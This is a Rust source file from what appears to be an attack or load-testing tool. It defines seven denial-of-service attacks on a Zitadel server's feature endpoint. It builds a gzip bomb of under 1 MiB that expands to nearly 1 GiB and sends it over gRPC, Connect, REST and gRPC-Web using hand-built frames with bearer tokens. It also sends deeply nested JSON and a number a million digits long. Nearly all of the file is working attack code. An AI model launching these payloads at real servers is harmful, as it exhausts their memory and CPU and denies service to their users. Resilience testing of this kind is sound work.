//! Small messages that become large or deep when the server reads them.

use std::io;
use std::sync::LazyLock;
use std::time::Duration;

use flate2::{Compress, Compression, FlushCompress};
use tokio::time::timeout;

use super::floods::CHECK;
use crate::attack::attacker::Attack;
use crate::attack::frames::{Block, END_STREAM, Frames, message};
use crate::attack::wire::{Pace, Wire};

const SET: &str = "/zitadel.feature.v2.FeatureService/SetInstanceFeatures";

/// The default maximum size of a message.
const MESSAGE_BYTES: usize = 1 << 20;

pub const ATTACKS: [Attack; 7] = [
    Attack::new("gzip bombs in gRPC", (20, "GB"), 2, |wire, pace| Box::pin(grpc(wire, pace, Block::grpc(CHECK)))),
    Attack::new("gzip bombs in gRPC with a token", (20, "GB"), 2, |wire, pace| {
        let block = Block::authorized(SET, &wire.target.token);
        Box::pin(grpc(wire, pace, block))
    }),
    Attack::new("gzip bombs in Connect", (20, "GB"), 2, |wire, pace| Box::pin(http1(wire, pace, CONNECT, gzipped()))),
    Attack::new("gzip bombs in REST", (20, "GB"), 2, |wire, pace| Box::pin(http1(wire, pace, REST, gzipped()))),
    Attack::new("gzip bombs in gRPC-Web", (20, "GB"), 2, |wire, pace| Box::pin(http1(wire, pace, WEB, framed()))),
    Attack::new("deep JSON", (40, "MB"), 4, |wire, pace| Box::pin(http1(wire, pace, PLAIN, deep()))),
    Attack::new("long JSON", (40, "MB"), 4, |wire, pace| Box::pin(http1(wire, pace, PLAIN, long()))),
];

/// The first lines of requests, without the headers that all of them share. Their methods accept the largest messages,
/// and every caller with a token may send them.
const CONNECT: &str = "POST /zitadel.feature.v2.FeatureService/SetInstanceFeatures HTTP/1.1\r\n\
    content-type: application/json\r\ncontent-encoding: gzip";
const PLAIN: &str =
    "POST /zitadel.feature.v2.FeatureService/SetInstanceFeatures HTTP/1.1\r\ncontent-type: application/json";
const REST: &str = "PUT /v2/features/instance HTTP/1.1\r\ncontent-type: application/json\r\ncontent-encoding: gzip";
const WEB: &str = "POST /zitadel.feature.v2.FeatureService/SetInstanceFeatures HTTP/1.1\r\n\
    content-type: application/grpc-web+proto\r\ngrpc-encoding: gzip";

/// One connection for each bomb, so that flow control does not slow it down.
async fn grpc(mut wire: Wire, pace: &mut Pace, block: Block) -> io::Result<()> {
    wire.http2().await?;
    let bomb = message(true, gzipped().len() as u32, gzipped());
    let stream = wire.stream();
    let mut frames = Frames::new().headers(stream, 0, &block.with("grpc-encoding", "gzip"));
    for part in bomb.chunks(16_384) {
        frames = frames.data(stream, 0, part);
    }
    wire.send_frames(frames.data(stream, END_STREAM, b"")).await?;
    go_off(wire, pace).await
}

async fn http1(mut wire: Wire, pace: &mut Pace, head: &str, body: &[u8]) -> io::Result<()> {
    let token = wire.target.token.clone();
    let rest = format!("host: localhost\r\nauthorization: Bearer {token}\r\ncontent-length: {}\r\n\r\n", body.len());
    wire.drain();
    wire.send(format!("{head}\r\n{rest}").as_bytes()).await?;
    wire.send(body).await?;
    go_off(wire, pace).await
}

/// Gives the server time to decompress a bomb.
async fn go_off(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    const FUSE: Duration = Duration::from_millis(100);
    pace.keep(1).await;
    // The server may close the connection or keep it.
    let _ = timeout(FUSE, wire.closed()).await;
    Ok(())
}

/// A gzip file of less than 1 MiB that grows to nearly 1 GiB of spaces.
fn gzipped() -> &'static [u8] {
    static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
        const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
        let spaces = vec![b' '; 1 << 20];
        let mut compress = Compress::new(Compression::best(), false);
        let mut flushed = || {
            let mut part = Vec::with_capacity(1 << 16);
            compress.compress_vec(&spaces, &mut part, FlushCompress::Full).expect("there is room for it");
            part
        };
        // After a full flush, later data does not refer to earlier data, so the second part can be repeated.
        let mut bomb = [&HEADER[..], &flushed()].concat();
        let part = flushed();
        bomb.extend(part.repeat((MESSAGE_BYTES - 1_000 - bomb.len()) / part.len()));
        bomb
    });
    &BOMB
}

/// The bomb as a gRPC-Web message.
fn framed() -> &'static [u8] {
    static FRAMED: LazyLock<Vec<u8>> = LazyLock::new(|| message(true, gzipped().len() as u32, gzipped()));
    &FRAMED
}

fn deep() -> &'static [u8] {
    static DEEP: LazyLock<Vec<u8>> = LazyLock::new(|| br#"{"service":["#.repeat(MESSAGE_BYTES / 12));
    &DEEP
}

/// A number with a million digits.
fn long() -> &'static [u8] {
    static LONG: LazyLock<Vec<u8>> =
        LazyLock::new(|| [&br#"{"service":"#[..], &b"9".repeat(MESSAGE_BYTES - 100), b"}"].concat());
    &LONG
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    #[test]
    fn a_bomb_is_small_and_decompresses_to_much() {
        assert!(gzipped().len() < MESSAGE_BYTES, "{}", gzipped().len());
        let mut part = Vec::new();
        let wanted = 64 << 20;
        flate2::read::GzDecoder::new(gzipped()).take(wanted).read_to_end(&mut part).unwrap();
        assert!(part.len() as u64 == wanted && part.iter().all(|&byte| byte == b' '));
    }
}
